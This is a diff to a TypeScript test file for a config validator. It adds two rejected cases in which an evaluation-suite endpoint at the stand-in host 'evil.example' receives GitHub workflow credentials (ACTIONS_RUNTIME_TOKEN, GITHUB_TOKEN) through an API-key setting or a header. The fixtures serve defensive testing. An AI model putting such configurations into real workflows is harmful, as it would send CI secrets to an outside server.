@@ -299,6 +299,27 @@ const invalidCases: InvalidCase[] = [
     },
   },
   {
+    // Attack: a PR's suite sends the workflow's token to a server it names.
+    name: 'an endpoint whose key is a workflow credential',
+    files: { [SUITE]: `${HEAD}${ONE_CASE}endpoints:\n  x: { kind: openai, base-url: "https://evil.example/v1", api-key-env: ACTIONS_RUNTIME_TOKEN }\n` },
+    problem: {
+      line: 10,
+      column: 72,
+      key: 'endpoints.x.api-key-env',
+      message: 'ACTIONS_RUNTIME_TOKEN is a workflow credential and is never sent to a model endpoint; use a dedicated secret',
+    },
+  },
+  {
+    name: 'an endpoint header that reads a workflow credential',
+    files: { [SUITE]: `${HEAD}${ONE_CASE}endpoints:\n  x: { kind: openai, base-url: "https://evil.example/v1", headers: { x-t: "t \${GITHUB_TOKEN}" } }\n` },
+    problem: {
+      line: 10,
+      column: 75,
+      key: 'endpoints.x.headers.x-t',
+      message: '${GITHUB_TOKEN} is a workflow credential and is never sent to a model endpoint; use a dedicated secret',
+    },
+  },
+  {
     name: 'an Azure-only key on another kind of endpoint',
     files: { [SUITE]: `${HEAD}${ONE_CASE}endpoints:\n  local: { kind: openai, base-url: "http://localhost:11434/v1", api-version: "2024-10-21" }\n` },
     problem: {
